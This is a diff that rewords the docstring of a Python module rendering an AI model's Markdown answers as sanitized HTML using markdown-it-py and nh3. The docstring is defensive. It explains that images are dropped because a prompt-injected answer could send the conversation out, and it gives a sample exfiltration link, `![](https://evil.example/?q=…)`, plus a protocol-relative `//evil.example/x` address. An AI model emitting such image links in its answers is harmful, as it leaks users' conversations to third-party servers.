@@ -1,12 +1,12 @@
 """An answer's Markdown as HTML a page may insert as it is.
 
 markdown-it-py renders CommonMark (with tables) and leaves raw HTML in the text as text;
-nh3 (the ammonia sanitizer) then keeps only formatting tags and http(s)/mailto links, in
-case a model or a poisoned document gets anything else through (a relative or protocol-relative
-address, `//evil.example/x`, is no http(s) link: its link loses the address). Images are not shown:
-an image URL is fetched the moment the answer is shown, so a prompt-injected answer could
-send the conversation to any server (`![](https://evil.example/?q=…)`); an image becomes
-a link named by its alt text."""
+nh3 (the ammonia sanitizer) then keeps only formatting tags and absolute http(s)/mailto
+links, in case a model or a poisoned document gets anything else through (a relative or
+protocol-relative address such as `//evil.example/x` leaves its link without an address).
+Images are not shown: an image URL is fetched the moment the answer is shown, so a
+prompt-injected answer could send the conversation to any server
+(`![](https://evil.example/?q=…)`); an image becomes a link named by its alt text."""
 
 import re
 from collections.abc import Sequence
